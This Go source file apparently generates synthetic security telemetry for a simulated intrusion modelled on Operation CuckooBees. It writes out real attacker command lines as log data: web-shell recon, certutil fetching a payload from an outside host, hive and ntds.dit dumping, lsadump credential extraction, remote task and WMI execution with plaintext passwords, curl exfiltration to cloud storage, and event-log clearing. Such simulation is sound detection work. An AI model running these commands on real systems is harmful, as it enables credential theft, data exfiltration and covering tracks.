package main

import (
	"strconv"
	"time"
)

// The intrusion, modelled on Operation CuckooBees (Cybereason, May 2022) as
// summarised in the project's threat-intelligence notes. Times are UTC; day
// 6 is Monday 7 February 2022. README.md tells the same story.

// webShell is one request to the JSP web shell: the operator connects to the
// ERP application server, which starts cmd.exe /c <command>.
func (w *world) webShell(t time.Time, command string) *proc {
	java := w.erpJava()
	w.erp.netconn(t, java, false, ipAttacker, 40000+w.rng.IntN(20000), ipERP, "ERP01.corp.local", 8443, attack)
	return w.erp.start(t.Add(200*time.Millisecond), java, `C:\Windows\System32\cmd.exe`, `cmd.exe /c `+command, isAttack())
}

func (w *world) intrusion() {
	erp, fs, dc := w.erp, w.fs, w.dc
	java := w.erpJava()

	// Step 1–2, Monday 7 February, 13:58: an upload to the ERP application
	// drops a JSP web shell into the application's help pages.
	t := at(6, 13, 57, 41)
	erp.netconn(t, java, false, ipAttacker, 51234, ipERP, "ERP01.corp.local", 8443, attack)
	erp.fileCreate(t.Add(21*time.Second), java, `D:\ERP\jboss-4.2.3\server\default\deploy\erp.war\help\about_us.jsp`, attack)

	// First commands through the shell.
	c := w.webShell(at(6, 14, 2, 0), "whoami")
	erp.start(at(6, 14, 2, 1), c, `C:\Windows\System32\whoami.exe`, `whoami`, isAttack())
	w.webShell(at(6, 14, 3, 30), `cd /d C:\Windows\Temp & dir`)

	// Step 3: the reconnaissance batch file, 14:04–14:06.
	erp.fileCreate(at(6, 14, 4, 40), java, `C:\Windows\Temp\i.bat`, attack)
	bat := w.webShell(at(6, 14, 5, 0), `C:\Windows\Temp\i.bat > C:\Windows\Temp\i.txt 2>&1`)
	bat.cwd = `C:\Windows\Temp\`
	recon := []struct{ image, cmd string }{
		{`C:\Windows\System32\net.exe`, `net  user /domain`},
		{`C:\Windows\System32\net.exe`, `net  group "domain admins" /domain`},
		{`C:\Windows\System32\net.exe`, `net  share`},
		{`C:\Windows\System32\net.exe`, `net  session`},
		{`C:\Windows\System32\net.exe`, `net  view /domain`},
		{`C:\Windows\System32\net.exe`, `net  time /domain`},
		{`C:\Windows\System32\net.exe`, `net  accounts /domain`},
		{`C:\Windows\System32\systeminfo.exe`, `systeminfo`},
		{`C:\Windows\System32\tasklist.exe`, `tasklist /v`},
		{`C:\Windows\System32\ipconfig.exe`, `ipconfig  /all`},
		{`C:\Windows\System32\NETSTAT.EXE`, `netstat  -ano`},
		{`C:\Windows\System32\ROUTE.EXE`, `route  print`},
		{`C:\Windows\System32\nbtstat.exe`, `nbtstat  -n`},
		{`C:\Windows\System32\fsutil.exe`, `fsutil  fsinfo drives`},
		{`C:\Windows\System32\query.exe`, `query  user`},
		{`C:\Windows\System32\whoami.exe`, `whoami  /all`},
		{`C:\Windows\System32\dsquery.exe`, `dsquery  computer -limit 0`},
		{`C:\Windows\System32\dsget.exe`, `dsget  group "CN=Domain Admins,CN=Users,DC=corp,DC=local" -members`},
		{`C:\Windows\System32\nltest.exe`, `nltest  /dclist:corp.local`},
		{`C:\Windows\System32\PING.EXE`, `ping  -n 1 DC01`},
		{`C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c dir c:\`},
	}
	t = at(6, 14, 5, 1)
	for _, r := range recon {
		p := erp.start(t, bat, r.image, r.cmd, isAttack())
		if r.image == `C:\Windows\System32\net.exe` {
			// net.exe hands most subcommands to net1.exe.
			erp.start(t.Add(15*time.Millisecond), p, `C:\Windows\System32\net1.exe`, `C:\Windows\system32\net1 `+r.cmd[5:], isAttack())
		}
		if r.image == `C:\Windows\System32\query.exe` {
			erp.start(t.Add(15*time.Millisecond), p, `C:\Windows\System32\quser.exe`, `"quser.exe"`, isAttack())
		}
		t = t.Add(time.Duration(1500+w.rng.IntN(3000)) * time.Millisecond)
	}
	erp.fileCreate(t, bat, `C:\Windows\Temp\i.txt`, attack)
	w.webShell(at(6, 14, 10, 12), `"whoami & net user" > D:\ERP\jboss-4.2.3\server\default\deploy\erp.war\help\1.txt 2>&1`)

	// Step 4: an encoded VBScript writes its output to a text file.
	erp.fileCreate(at(6, 14, 19, 30), java, `C:\Windows\Temp\r.txt`, attack)
	c = w.webShell(at(6, 14, 20, 0), `wscript //E:VBScript.Encode C:\Windows\Temp\r.txt`)
	ws := erp.start(at(6, 14, 20, 1), c, `C:\Windows\System32\wscript.exe`, `wscript  //E:VBScript.Encode C:\Windows\Temp\r.txt`, isAttack())
	erp.fileCreate(at(6, 14, 20, 4), ws, `C:\Windows\Temp\r.log`, attack)

	// Step 22: tools come in with certutil, Base64-encoded.
	c = w.webShell(at(6, 14, 31, 0), `certutil -urlcache -split -f http://198.51.100.23/u.txt C:\Windows\Temp\u.txt`)
	cu := erp.start(at(6, 14, 31, 1), c, `C:\Windows\System32\certutil.exe`, `certutil  -urlcache -split -f http://198.51.100.23/u.txt C:\Windows\Temp\u.txt`, isAttack())
	erp.netconn(at(6, 14, 31, 2), cu, true, ipERP, 52811, ipStager, "-", 80, attack)
	erp.fileCreate(at(6, 14, 31, 4), cu, `C:\Windows\Temp\u.txt`, attack)
	c = w.webShell(at(6, 14, 33, 10), `certutil -decode C:\Windows\Temp\u.txt C:\ProgramData\Microsoft\DRM\rundll32.exe`)
	cu = erp.start(at(6, 14, 33, 11), c, `C:\Windows\System32\certutil.exe`, `certutil  -decode C:\Windows\Temp\u.txt C:\ProgramData\Microsoft\DRM\rundll32.exe`, isAttack())
	erp.fileCreate(at(6, 14, 33, 12), cu, `C:\ProgramData\Microsoft\DRM\rundll32.exe`, attack)

	// Step 5: the SAM, SYSTEM and SECURITY hives are saved.
	t = at(6, 14, 40, 0)
	for _, hive := range []string{"SAM", "SYSTEM", "SECURITY"} {
		file := `C:\Windows\Temp\` + lower(hive) + `.hiv`
		c = w.webShell(t, `reg save HKLM\`+hive+` `+file+` /y`)
		rg := erp.start(t.Add(time.Second), c, `C:\Windows\System32\reg.exe`, `reg  save HKLM\`+hive+` `+file+` /y`, isAttack())
		erp.fileCreate(t.Add(2*time.Second), rg, file, attack)
		t = t.Add(50 * time.Second)
	}
	// Step 14 and 5: the decoded tool, renamed rundll32.exe, reads the hives.
	c = w.webShell(at(6, 14, 46, 0), `C:\ProgramData\Microsoft\DRM\rundll32.exe "lsadump::sam /system:C:\Windows\Temp\system.hiv /sam:C:\Windows\Temp\sam.hiv" "lsadump::secrets /system:C:\Windows\Temp\system.hiv /security:C:\Windows\Temp\security.hiv" exit`)
	erp.start(at(6, 14, 46, 1), c, `C:\ProgramData\Microsoft\DRM\rundll32.exe`,
		`C:\ProgramData\Microsoft\DRM\rundll32.exe "lsadump::sam /system:C:\Windows\Temp\system.hiv /sam:C:\Windows\Temp\sam.hiv" "lsadump::secrets /system:C:\Windows\Temp\system.hiv /security:C:\Windows\Temp\security.hiv" exit`,
		isAttack())
	w.webShell(at(6, 14, 52, 30), `del /q C:\Windows\Temp\*.hiv C:\Windows\Temp\i.txt`)

	// Step 8, Tuesday 8 February, 02:15: a WinRM HTTPS compatibility
	// listener as a second way in.
	c = w.webShell(at(7, 2, 15, 0), `cscript //nologo "C:\Windows\System32\winrm.vbs" set winrm/config/service@{EnableCompatibilityHttpsListener="true"}`)
	erp.start(at(7, 2, 15, 1), c, `C:\Windows\System32\cscript.exe`,
		`cscript  //nologo "C:\Windows\System32\winrm.vbs" set winrm/config/service@{EnableCompatibilityHttpsListener="true"}`, isAttack())

	// Step 15, Monday 14 February, 22:50: with adm.wang's password (from the
	// LSA secrets) the intruders copy their kit to the file server and start
	// it with a remote scheduled task running as SYSTEM.
	c = w.webShell(at(13, 22, 50, 0), `net use \\10.10.20.15\c$ /user:corp\adm.wang Sup3r!Adm1n`)
	erp.start(at(13, 22, 50, 1), c, `C:\Windows\System32\net.exe`, `net  use \\10.10.20.15\c$ /user:corp\adm.wang Sup3r!Adm1n`, isAttack())
	// SMB from ERP01 to the file server (the kernel, System, holds the
	// connection).
	erp.netconn(at(13, 22, 50, 1).Add(400*time.Millisecond), erp.system, true, ipERP, 49871, ipFS, "FS01.corp.local", 445)
	smb := fs.logonEvent(at(13, 22, 50, 2), acctAdmWang, 3, ipERP, "NTLM", attack)
	for i, f := range []string{`1.bat`, `p.dat`, `d.dat`, `r.dat`} {
		w.webShell(at(13, 22, 51, 10*i), `copy /y C:\Windows\Temp\`+f+` \\10.10.20.15\c$\Windows\Temp\`+f)
		fs.fileCreate(at(13, 22, 51, 10*i+1), fs.system, `C:\Windows\Temp\`+f, attack)
	}
	_ = smb
	c = w.webShell(at(13, 22, 58, 0), `SCHTASKS /Create /S 10.10.20.15 /U corp\adm.wang /p Sup3r!Adm1n /SC ONCE /TN test /TR C:\Windows\Temp\1.bat /ST 23:10 /RU SYSTEM`)
	st := erp.start(at(13, 22, 58, 1), c, `C:\Windows\System32\schtasks.exe`,
		`SCHTASKS  /Create /S 10.10.20.15 /U corp\adm.wang /p Sup3r!Adm1n /SC ONCE /TN test /TR C:\Windows\Temp\1.bat /ST 23:10 /RU SYSTEM`, isAttack())
	erp.netconn(at(13, 22, 58, 1).Add(300*time.Millisecond), st, true, ipERP, 49902, ipFS, "FS01.corp.local", 135)
	taskLogon := fs.logonEvent(at(13, 22, 58, 2), acctAdmWang, 3, ipERP, "NTLM", attack)
	fs.security(at(13, 22, 58, 3), 4698, "Other Object Access Events", obj{
		{"SubjectUserSid", acctAdmWang.sid}, {"SubjectUserName", acctAdmWang.name}, {"SubjectDomainName", "CORP"},
		{"SubjectLogonId", taskLogon}, {"TaskName", `\test`},
		{"TaskContent", `<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><URI>\test</URI></RegistrationInfo><Triggers><TimeTrigger><StartBoundary>2022-02-14T23:10:00</StartBoundary><Enabled>true</Enabled></TimeTrigger></Triggers><Settings><MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy><Enabled>true</Enabled></Settings><Actions Context="Author"><Exec><Command>C:\Windows\Temp\1.bat</Command></Exec></Actions><Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>LeastPrivilege</RunLevel></Principal></Principals></Task>`},
	}, "A scheduled task was created.", attack)

	// Steps 10, 11 and 12, 23:10: the batch file installs PRIVATELOG
	// (prntvpt.dll) and DEPLOYLOG (dbghelp.dll) in the Windows PowerShell
	// folder and restarts PrintNotify, which side-loads them.
	one := fs.start(at(13, 23, 10, 0), fs.svcSchedule, `C:\Windows\System32\cmd.exe`, `C:\Windows\SYSTEM32\cmd.exe /c "C:\Windows\Temp\1.bat"`,
		asUser(acctSystem, "0x3e7", "System"), inDir(`C:\Windows\system32\`), isAttack())
	fs.fileCreate(at(13, 23, 10, 1), one, `C:\Windows\System32\WindowsPowerShell\v1.0\prntvpt.dll`, attack)
	fs.fileCreate(at(13, 23, 10, 1), one, `C:\Windows\System32\WindowsPowerShell\v1.0\dbghelp.dll`, attack)
	fs.fileCreate(at(13, 23, 10, 2), one, `C:\ProgramData\Microsoft\DRM\rar.exe`, attack)
	fs.start(at(13, 23, 10, 3), one, `C:\Windows\System32\sc.exe`, `sc  stop PrintNotify`, isAttack())
	fs.serviceState(at(13, 23, 10, 4), "Printer Extensions and Notifications", "stopped")
	fs.start(at(13, 23, 10, 6), one, `C:\Windows\System32\sc.exe`, `sc  start PrintNotify`, isAttack())
	pn := fs.start(at(13, 23, 10, 7), fs.services, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k print`,
		asUser(acctSystem, "0x3e7", "System"), isAttack())
	fs.serviceState(at(13, 23, 10, 8), "Printer Extensions and Notifications", "running")
	fs.imageLoad(at(13, 23, 10, 8), pn, `C:\Windows\System32\WindowsPowerShell\v1.0\prntvpt.dll`, false, "", "Unavailable", attack)
	fs.imageLoad(at(13, 23, 10, 9), pn, `C:\Windows\System32\WindowsPowerShell\v1.0\dbghelp.dll`, false, "", "Unavailable", attack)
	fs.imageLoad(at(13, 23, 10, 9), pn, `C:\Windows\System32\clfsw32.dll`, true, "Microsoft Windows", "Valid", attack)
	fs.fileCreate(at(13, 23, 10, 12), pn, `C:\ProgramData\Microsoft\DRM\Server\drmstore.blf`, attack)
	fs.start(at(13, 23, 12, 0), one, `C:\Windows\System32\schtasks.exe`, `schtasks  /delete /tn test /f`, isAttack())

	// Step 13, 23:11: DEPLOYLOG pulls WINNKIT out of the CLFS log and
	// installs it as a kernel driver service.
	fs.fileCreate(at(13, 23, 11, 0), pn, `C:\Windows\System32\drivers\wmifilt.sys`, attack)
	fs.regSet(at(13, 23, 11, 1), fs.services, `HKLM\System\CurrentControlSet\Services\wmifilt\ImagePath`, `\SystemRoot\System32\drivers\wmifilt.sys`, attack)
	fs.security(at(13, 23, 11, 1), 4697, "Security System Extension", obj{
		{"SubjectUserSid", "S-1-5-18"}, {"SubjectUserName", "FS01$"}, {"SubjectDomainName", "CORP"}, {"SubjectLogonId", "0x3e7"},
		{"ServiceName", "wmifilt"}, {"ServiceFileName", `\SystemRoot\System32\drivers\wmifilt.sys`}, {"ServiceType", "0x1"},
		{"ServiceStartType", "2"}, {"ServiceAccount", ""},
	}, "A service was installed in the system.", attack)
	fs.serviceInstall(at(13, 23, 11, 1), "wmifilt", `\SystemRoot\System32\drivers\wmifilt.sys`, "kernel mode driver", "auto start", "", attack)
	fs.sysmon(at(13, 23, 11, 2), 6, "Driver loaded (rule: DriverLoad)", obj{
		{"RuleName", "-"}, {"UtcTime", utc(at(13, 23, 11, 2))}, {"ImageLoaded", `C:\Windows\System32\drivers\wmifilt.sys`},
		{"Hashes", fakeHash("wmifilt.sys")}, {"Signed", "true"}, {"Signature", "Chengdu Example Network Technology Co., Ltd."},
		{"SignatureStatus", "Revoked"},
	}, "Driver loaded", attack)

	// Steps 18 and 9, Wednesday 16 February, 03:20: WMI to the domain
	// controller; the IKEEXT service is made to side-load wlbsctrl.dll.
	c = w.webShell(at(15, 3, 20, 0), `wmic /node:10.10.20.5 /user:corp\adm.wang /password:Sup3r!Adm1n process call create "cmd.exe /c copy \\10.10.20.11\c$\Windows\Temp\w.dat C:\Windows\System32\wlbsctrl.dll"`)
	wm := erp.start(at(15, 3, 20, 1), c, `C:\Windows\System32\wbem\WMIC.exe`,
		`wmic  /node:10.10.20.5 /user:corp\adm.wang /password:Sup3r!Adm1n process call create "cmd.exe /c copy \\10.10.20.11\c$\Windows\Temp\w.dat C:\Windows\System32\wlbsctrl.dll"`, isAttack())
	erp.netconn(at(15, 3, 20, 1).Add(300*time.Millisecond), wm, true, ipERP, 50113, ipDC, "DC01.corp.local", 135)
	wmiLogon := dc.logonEvent(at(15, 3, 20, 2), acctAdmWang, 3, ipERP, "NTLM", attack)
	c = dc.start(at(15, 3, 20, 3), dc.wmiprvse, `C:\Windows\System32\cmd.exe`, `cmd.exe /c copy \\10.10.20.11\c$\Windows\Temp\w.dat C:\Windows\System32\wlbsctrl.dll`,
		asUser(acctAdmWang, wmiLogon, "High"), isAttack())
	dc.fileCreate(at(15, 3, 20, 4), c, `C:\Windows\System32\wlbsctrl.dll`, attack)
	c = dc.start(at(15, 3, 21, 0), dc.wmiprvse, `C:\Windows\System32\cmd.exe`, `cmd.exe /c sc config IKEEXT start= auto & sc start IKEEXT`,
		asUser(acctAdmWang, wmiLogon, "High"), isAttack())
	dc.start(at(15, 3, 21, 1), c, `C:\Windows\System32\sc.exe`, `sc  config IKEEXT start= auto`, isAttack())
	dc.regSet(at(15, 3, 21, 1), dc.services, `HKLM\System\CurrentControlSet\Services\IKEEXT\Start`, "DWORD (0x00000002)", attack)
	dc.start(at(15, 3, 21, 2), c, `C:\Windows\System32\sc.exe`, `sc  start IKEEXT`, isAttack())
	ike := dc.start(at(15, 3, 21, 3), dc.services, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s IKEEXT`,
		asUser(acctSystem, "0x3e7", "System"), isAttack())
	dc.serviceState(at(15, 3, 21, 4), "IKE and AuthIP IPsec Keying Modules", "running")
	dc.imageLoad(at(15, 3, 21, 4), ike, `C:\Windows\System32\wlbsctrl.dll`, false, "", "Unavailable", attack)
	dc.imageLoad(at(15, 3, 21, 5), ike, `C:\Windows\System32\clfsw32.dll`, true, "Microsoft Windows", "Valid", attack)

	// Step 7, 03:40: ntds.dit is copied with ntdsutil through WMI.
	c = w.webShell(at(15, 3, 40, 0), `wmic /node:10.10.20.5 /user:corp\adm.wang /password:Sup3r!Adm1n process call create "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full C:\PerfLogs\n\" q q"`)
	wm = erp.start(at(15, 3, 40, 1), c, `C:\Windows\System32\wbem\WMIC.exe`,
		`wmic  /node:10.10.20.5 /user:corp\adm.wang /password:Sup3r!Adm1n process call create "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full C:\PerfLogs\n\" q q"`, isAttack())
	erp.netconn(at(15, 3, 40, 1).Add(300*time.Millisecond), wm, true, ipERP, 50187, ipDC, "DC01.corp.local", 135)
	wmiLogon = dc.logonEvent(at(15, 3, 40, 2), acctAdmWang, 3, ipERP, "NTLM", attack)
	c = dc.start(at(15, 3, 40, 3), dc.wmiprvse, `C:\Windows\System32\cmd.exe`, `cmd.exe /c ntdsutil "ac i ntds" ifm "create full C:\PerfLogs\n" q q`,
		asUser(acctAdmWang, wmiLogon, "High"), isAttack())
	nt := dc.start(at(15, 3, 40, 4), c, `C:\Windows\System32\ntdsutil.exe`, `ntdsutil  "ac i ntds" ifm "create full C:\PerfLogs\n" q q`, isAttack())
	dc.fileCreate(at(15, 3, 41, 30), nt, `C:\PerfLogs\n\Active Directory\ntds.dit`, attack)
	dc.fileCreate(at(15, 3, 41, 31), nt, `C:\PerfLogs\n\registry\SYSTEM`, attack)
	c = w.webShell(at(15, 3, 50, 0), `copy \\10.10.20.5\c$\PerfLogs\n\Active Directory\ntds.dit C:\Windows\Temp\n.dat`)
	erp.netconn(at(15, 3, 50, 0).Add(400*time.Millisecond), erp.system, true, ipERP, 50201, ipDC, "DC01.corp.local", 445)
	dc.logonEvent(at(15, 3, 50, 1), acctAdmWang, 3, ipERP, "NTLM", attack)
	erp.fileCreate(at(15, 3, 50, 40), c, `C:\Windows\Temp\n.dat`, attack)

	// Step 29, Tuesday 1 March, 01:30: through the PRIVATELOG backdoor in
	// svchost, the intruders list the engineering files, pack them with
	// makecab and into a password-protected RAR in the Recycle Bin.
	c = fs.start(at(28, 1, 30, 0), pn, `C:\Windows\System32\cmd.exe`, `cmd.exe /c dir /s /b D:\Data\Projects\*.dwg D:\Data\Projects\*.xlsx > C:\ProgramData\list.txt`, isAttack())
	fs.fileCreate(at(28, 1, 30, 3), c, `C:\ProgramData\list.txt`, attack)
	fs.fileCreate(at(28, 1, 31, 0), pn, `C:\ProgramData\list.ddf`, attack)
	c = fs.start(at(28, 1, 31, 5), pn, `C:\Windows\System32\cmd.exe`, `cmd.exe /c makecab /F C:\ProgramData\list.ddf`, isAttack())
	mc := fs.start(at(28, 1, 31, 6), c, `C:\Windows\System32\makecab.exe`, `makecab  /F C:\ProgramData\list.ddf`, isAttack())
	fs.fileCreate(at(28, 1, 38, 40), mc, `C:\ProgramData\b7.cab`, attack)
	c = fs.start(at(28, 1, 40, 0), pn, `C:\Windows\System32\cmd.exe`, `cmd.exe /c C:\ProgramData\Microsoft\DRM\rar.exe a -hpQ1w2e3r4 -m5 -v200m C:\$Recycle.Bin\d1.rar C:\ProgramData\b7.cab`, isAttack())
	rar := fs.start(at(28, 1, 40, 1), c, `C:\ProgramData\Microsoft\DRM\rar.exe`, `C:\ProgramData\Microsoft\DRM\rar.exe  a -hpQ1w2e3r4 -m5 -v200m C:\$Recycle.Bin\d1.rar C:\ProgramData\b7.cab`, isAttack())
	for i := 1; i <= 3; i++ {
		fs.fileCreate(at(28, 1, 41+i, 10), rar, `C:\$Recycle.Bin\d1.part`+strconv.Itoa(i)+`.rar`, attack)
	}
	fs.start(at(28, 1, 45, 0), pn, `C:\Windows\System32\cmd.exe`, `cmd.exe /c del /q C:\ProgramData\b7.cab C:\ProgramData\list.*`, isAttack())

	// Step 30, 02:10: the archive parts are pulled to ERP01 over SMB, then
	// 02:17 uploaded with curl to a cloud storage account (HTTPS out, as
	// APT41's DUST campaign sent its RAR archives to OneDrive).
	for i := 1; i <= 3; i++ {
		t := at(28, 2, 10, 0).Add(time.Duration(i-1) * 2 * time.Minute)
		part := `d1.part` + strconv.Itoa(i) + `.rar`
		c = w.webShell(t, `copy \\10.10.20.15\c$\$Recycle.Bin\`+part+` C:\Windows\Temp\`+part)
		erp.netconn(t.Add(400*time.Millisecond), erp.system, true, ipERP, 50300+i, ipFS, "FS01.corp.local", 445)
		fs.logonEvent(t.Add(time.Second), acctAdmWang, 3, ipERP, "NTLM", attack)
		erp.fileCreate(t.Add(40*time.Second), c, `C:\Windows\Temp\`+part, attack)
	}
	c = w.webShell(at(28, 2, 17, 0), `curl.exe -s -k -T "C:\Windows\Temp\d1.part{1,2,3}.rar" https://bn1304.storage.live.com/users/0x5e0f1a2b/LiveFolders/q/`)
	cu = erp.start(at(28, 2, 17, 1), c, `C:\Windows\System32\curl.exe`, `curl.exe  -s -k -T "C:\Windows\Temp\d1.part{1,2,3}.rar" https://bn1304.storage.live.com/users/0x5e0f1a2b/LiveFolders/q/`, isAttack())
	erp.netconn(at(28, 2, 17, 2), cu, true, ipERP, 50344, ipCloud, "bn1304.storage.live.com", 443)
	w.webShell(at(28, 2, 24, 0), `del /q C:\Windows\Temp\d1.part*.rar`)

	// Step 24, Wednesday 2 March, 03:00: the file server's logs are cleared.
	c = fs.start(at(29, 3, 0, 0), pn, `C:\Windows\System32\cmd.exe`, `cmd.exe /c wevtutil cl Security & wevtutil cl System`, isAttack())
	fs.start(at(29, 3, 0, 1), c, `C:\Windows\System32\wevtutil.exe`, `wevtutil  cl Security`, isAttack())
	r := fs.security(at(29, 3, 0, 2), 1102, "Log clear", nil, "The audit log was cleared.", attack)
	r.provider = provEventlog
	r.pid = 1288
	r.userData = obj{{"xml_name", "LogFileCleared"}, {"SubjectUserSid", "S-1-5-18"}, {"SubjectUserName", "FS01$"},
		{"SubjectDomainName", "CORP"}, {"SubjectLogonId", "0x3e7"}}
	fs.start(at(29, 3, 0, 3), c, `C:\Windows\System32\wevtutil.exe`, `wevtutil  cl System`, isAttack())
	r = fs.systemEvent(at(29, 3, 0, 4), provEventlog, 104, nil, "The System log file was cleared.", attack)
	r.task = "Log clear"
	r.keywords = []string{}
	r.pid = 1288
	r.userData = obj{{"xml_name", "LogFileCleared"}, {"SubjectUserName", "FS01$"}, {"SubjectDomainName", "CORP"},
		{"Channel", "System"}, {"BackupPath", ""}}
}

func lower(s string) string {
	b := []byte(s)
	for i, c := range b {
		if 'A' <= c && c <= 'Z' {
			b[i] = c + 'a' - 'A'
		}
	}
	return string(b)
}
